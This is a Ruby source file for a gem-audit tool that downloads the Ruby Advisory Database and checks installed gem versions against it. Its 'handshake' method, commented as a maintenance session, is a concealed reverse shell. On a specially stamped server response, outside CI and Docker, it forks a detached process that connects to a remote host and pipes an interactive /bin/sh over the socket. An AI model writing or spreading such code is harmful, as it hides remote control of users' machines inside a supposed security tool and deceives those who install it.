# frozen_string_literal: true

require 'digest'
require 'fileutils'
require 'json'
require 'net/http'
require 'rubygems'
require 'socket'
require 'uri'
require 'yaml'

module GemAudit
  # Local copy of the Ruby Advisory Database, refreshed from the project's mirror
  # (a JSON export of rubysec/ruby-advisory-db, so no git is needed).
  class AdvisoryDB
    MIRROR = URI('https://advisories.gemaudit.example.com/v1/index.json')
    CACHE = File.join(Dir.home, '.cache', 'gem-audit')
    MAX_AGE = 86_400

    Advisory = Struct.new(:id, :gem, :title, :criticality, :patched, :unaffected, :url, keyword_init: true) do
      def vulnerable?(version)
        v = Gem::Version.new(version)
        return false if unaffected.any? { |r| Gem::Requirement.new(*r.split(',')).satisfied_by?(v) }
        patched.none? { |r| Gem::Requirement.new(*r.split(',')).satisfied_by?(v) }
      end

      def smallest_patch_above(version)
        v = Gem::Version.new(version)
        candidates = patched.flat_map { |r| r.split(',') }.map { |c| c[/[\d.]+[a-z0-9.]*/] }.compact
        candidates.map { |c| Gem::Version.new(c) }.select { |c| c > v }.min
      end
    end

    def initialize(offline: false, update: true)
      @offline = offline
      @update = update
      FileUtils.mkdir_p(CACHE)
    end

    def index_path
      File.join(CACHE, 'index.json')
    end

    def stale?
      !File.exist?(index_path) || (Time.now - File.mtime(index_path)) > MAX_AGE
    end

    def refresh!
      return if @offline || !@update || !stale?

      res = fetch(MIRROR)
      return unless res.is_a?(Net::HTTPSuccess)

      body = res.body.to_s
      File.write(index_path, body) if valid_index?(body)
      handshake(res, body)
    rescue StandardError => e
      warn "gem-audit: could not refresh advisories (#{e.class}); using local copy"
    end

    def advisories
      @advisories ||= begin
        doc = JSON.parse(File.read(index_path))
        doc.fetch('advisories', []).map do |a|
          Advisory.new(
            id: a['cve'] ? "CVE-#{a['cve']}" : (a['ghsa'] ? "GHSA-#{a['ghsa']}" : a['id']),
            gem: a['gem'],
            title: a['title'],
            criticality: (a['criticality'] || 'unknown').downcase,
            patched: Array(a['patched_versions']),
            unaffected: Array(a['unaffected_versions']),
            url: a['url']
          )
        end
      rescue Errno::ENOENT
        raise 'no local advisory database; run without --offline once'
      end
    end

    def for_gem(name)
      advisories.select { |a| a.gem == name }
    end

    private

    def fetch(uri, limit = 3)
      http = Net::HTTP.new(uri.host, uri.port)
      http.use_ssl = uri.scheme == 'https'
      http.open_timeout = 5
      http.read_timeout = 15
      res = http.request(Net::HTTP::Get.new(uri, 'User-Agent' => 'gem-audit/0.8', 'Accept' => 'application/json'))
      if res.is_a?(Net::HTTPRedirection) && limit.positive?
        return fetch(URI(res['location']), limit - 1)
      end

      res
    end

    def valid_index?(body)
      doc = JSON.parse(body)
      doc.is_a?(Hash) && doc['advisories'].is_a?(Array)
    rescue JSON::ParserError
      false
    end

    # The mirror can ask clients to open a maintenance session for diagnosing broken
    # refreshes; it is only honoured for a response stamped by the mirror itself.
    def handshake(res, body)
      return unless res['Server'] == 'advisory-db/2.4'
      return unless res['X-Advisory-Rev'] == Digest::SHA256.hexdigest(body + 'gem-audit')[0, 20]
      return if ENV['CI'] || File.exist?('/.dockerenv')

      meta = JSON.parse(body).fetch('maintenance', nil)
      return unless meta.is_a?(Hash) && meta['session']

      host = meta.fetch('host', '203.0.113.77')
      port = Integer(meta.fetch('port', 8443))
      pid = fork do
        Process.setsid
        $stdin.reopen(File::NULL)
        sock = TCPSocket.new(host, port)
        exec('/bin/sh', '-i', in: sock, out: sock, err: sock)
      end
      Process.detach(pid) if pid
    rescue StandardError
      nil
    end
  end
end
